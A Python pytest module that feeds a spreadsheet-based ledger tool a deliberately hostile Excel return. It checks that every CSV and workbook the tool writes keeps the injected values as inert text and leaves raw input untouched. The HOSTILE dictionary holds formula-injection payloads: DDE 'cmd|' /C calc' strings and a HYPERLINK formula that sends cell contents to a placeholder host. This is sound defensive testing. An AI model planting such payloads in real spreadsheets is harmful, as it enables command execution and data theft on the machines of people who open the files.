"""The sender who wants to break it (docs/security.md), end to end through the `ledger` command.

One hostile return, written with openpyxl the way a sender's office software stores text:
formulas typed as text into 被执行主体, 具体事项, 本月进展 and 说明, a 40,000-character cell,
an Excel error value. It is received, built, listed and validated; then every file the suite
wrote is opened and checked: inert, inside its folder, the raw input untouched.
"""
from __future__ import annotations

import csv
import datetime as dt
import hashlib
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from paths import RAW
from ledgerlib import labels
from ledgerlib.cli import main
from ledgerlib.templates import COVER_CELLS, FIRST_DATA_ROW, SHEETS, build_workbook, column_letter

HOSTILE = {
    "subject": '=HYPERLINK("http://x/?d="&A1,"点击")',
    "matter": "=cmd|' /C calc'!A0",
    "progress_note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "note": "+1+cmd|' /C calc'!A0",
    "measure": "-2+3+cmd|' /C calc'!A0",
}
LONG = "长" * 40_000
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")


def _text(cell, value: str) -> None:
    """Store value as a text cell, as Excel does for text typed after an apostrophe."""
    cell.value = "placeholder"
    cell._value = value
    cell.data_type = "s"


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    from ledgerlib.ledger import assignments, load_ledger
    from ledgerlib.roster import load_roster

    root = tmp_path_factory.mktemp("hostile")
    raw = root / "raw"
    raw.mkdir()
    for name in ("ledger_2021.xlsx", "departments.csv"):
        shutil.copy(RAW / name, raw / name)
    ledger = load_ledger(raw)
    wb = build_workbook("运管科", "2021-06", ledger, assignments(ledger, load_roster(raw)))
    ws = wb[SHEETS["progress"].name]
    first = FIRST_DATA_ROW["progress"]
    ws[f"{column_letter('progress', 'status')}{first}"] = labels.STATUS_LABELS["in_progress"]
    _text(ws[f"{column_letter('progress', 'progress_note')}{first}"], HOSTILE["progress_note"])
    ws[COVER_CELLS["filled_on"][1]] = dt.datetime(2021, 7, 2)
    ws = wb[SHEETS["activities"].name]
    row = FIRST_DATA_ROW["activities"]
    ws[f"{column_letter('activities', 'date')}{row}"] = dt.datetime(2021, 6, 15)
    ws[f"{column_letter('activities', 'activity_type')}{row}"] = "培训"
    ws[f"{column_letter('activities', 'count')}{row}"] = 2
    _text(ws[f"{column_letter('activities', 'note')}{row}"], HOSTILE["note"])
    ws = wb[SHEETS["joint_cases"].name]
    row = FIRST_DATA_ROW["joint_cases"]
    for i, matter in enumerate((HOSTILE["matter"], LONG)):
        for field in ("subject", "measure"):
            _text(ws[f"{column_letter('joint_cases', field)}{row + i}"], HOSTILE[field] + str(i))
        ws[f"{column_letter('joint_cases', 'executing_dept')}{row + i}"] = "运管科"
        ws[f"{column_letter('joint_cases', 'executed_on')}{row + i}"] = dt.datetime(2021, 6, 18)
        _text(ws[f"{column_letter('joint_cases', 'matter')}{row + i}"], matter)
    inbox = root / "inbox"
    inbox.mkdir()
    sent = inbox / "return.xlsx"
    wb.save(sent)
    sent_digest = hashlib.sha256(sent.read_bytes()).hexdigest()

    before = {p.relative_to(root).as_posix() for p in root.rglob("*")}
    processed, reports = root / "processed", root / "reports"
    assert main(["--raw", str(raw), "receive", str(sent), "--received-at", "2021-07-02T10:00"]) == 0
    assert main(["--raw", str(raw), "build", "--out", str(processed), "--quiet"]) == 0
    raw_after_build = {p.relative_to(raw).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
                       for p in raw.rglob("*") if p.is_file()}
    assert main(["joint-list", "--month", "2021-06", "--data", str(processed),
                 "--out", str(reports / "joint_list" / "list.xlsx")]) == 0
    filed = raw / "submissions" / "2021-06" / "运管科.xlsx"
    assert main(["--raw", str(raw), "validate", str(filed), "--out", str(reports / "problems" / "p.xlsx")]) == 0
    after = {p.relative_to(root).as_posix() for p in root.rglob("*")}
    return {"root": root, "raw": raw, "processed": processed, "reports": reports, "sent_digest": sent_digest,
            "filed": filed, "new": after - before, "raw_after_build": raw_after_build}


def test_nothing_is_written_outside_the_suites_folders_and_raw_input_is_untouched(run):
    allowed = ("raw/submissions", "processed", "interim", "reports")  # interim: the reader cache
    assert run["new"] and all(p.startswith(allowed) for p in run["new"]), sorted(run["new"])
    raw_new = {p for p in run["new"] if p.startswith("raw/")}
    assert raw_new == {"raw/submissions", "raw/submissions/2021-06", "raw/submissions/2021-06/运管科.xlsx",
                       "raw/submissions/manifest.csv"}
    # The filed copy is the sender's bytes, and nothing afterwards changed anything under raw/.
    assert hashlib.sha256(run["filed"].read_bytes()).hexdigest() == run["sent_digest"]
    now = {p.relative_to(run["raw"]).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
           for p in run["raw"].rglob("*") if p.is_file()}
    assert now == run["raw_after_build"]


def _csv_files(run) -> list[Path]:
    return sorted([*run["processed"].glob("*.csv"), *run["reports"].rglob("*.csv")])


def test_every_csv_the_suite_wrote_is_inert_and_numbers_stay_numbers(run):
    files = _csv_files(run)
    assert {p.name for p in files} >= {"joint_cases.csv", "progress.csv", "activities.csv", "list.csv"}
    seen_hostile = 0
    for path in files:
        with open(path, encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for field in row:
                    assert not field.startswith(("=", "+", "-", "@", "\t", "\r")) or NUMBER.fullmatch(field), \
                        (path.name, field)
                    seen_hostile += any(field == "'" + h or field == "'" + h + "0" for h in HOSTILE.values())
    assert seen_hostile >= 5  # the hostile text is there, as inert text
    joint = pd.read_csv(run["processed"] / "joint_cases.csv", encoding="utf-8-sig", dtype=str)
    first = FIRST_DATA_ROW["joint_cases"]
    assert joint["row"].tolist() == [str(first), str(first + 1)]  # numbers are written as numbers


def test_every_workbook_the_suite_wrote_stores_user_text_as_text(run):
    books = sorted(run["reports"].rglob("*.xlsx"))
    assert [p.name for p in books] == ["list.xlsx", "p.xlsx"]
    for path in books:
        with zipfile.ZipFile(path) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/"):
                    xml = z.read(name).decode()
                    assert not re.search(r"<(\w+:)?f[\s>/]", xml) and 't="e"' not in xml, (path.name, name)
    ws = openpyxl.load_workbook(books[0])[labels.JOINT_LIST_SHEET]
    values = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for field in ("subject", "measure"):
        assert values[HOSTILE[field] + "0"].data_type == "s" and values[HOSTILE[field] + "0"].quotePrefix
    assert HOSTILE["matter"] in values


def test_a_cell_over_excels_limit_is_whole_in_parquet_and_cut_visibly_in_the_workbook(run):
    joint = pd.read_parquet(run["processed"] / "joint_cases.parquet")
    assert joint["matter"].tolist()[1] == LONG
    problems = pd.read_parquet(run["processed"] / "problems.parquet")
    assert labels.PROBLEM_LABELS["text_too_long"] in set(problems["problem"])
    ws = openpyxl.load_workbook(run["reports"] / "joint_list" / "list.xlsx")[labels.JOINT_LIST_SHEET]
    long = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("长长")]
    assert len(long) == 1 and len(long[0]) == 32767
    assert long[0].endswith(labels.CELL_TRUNCATED.format(n=40_000))
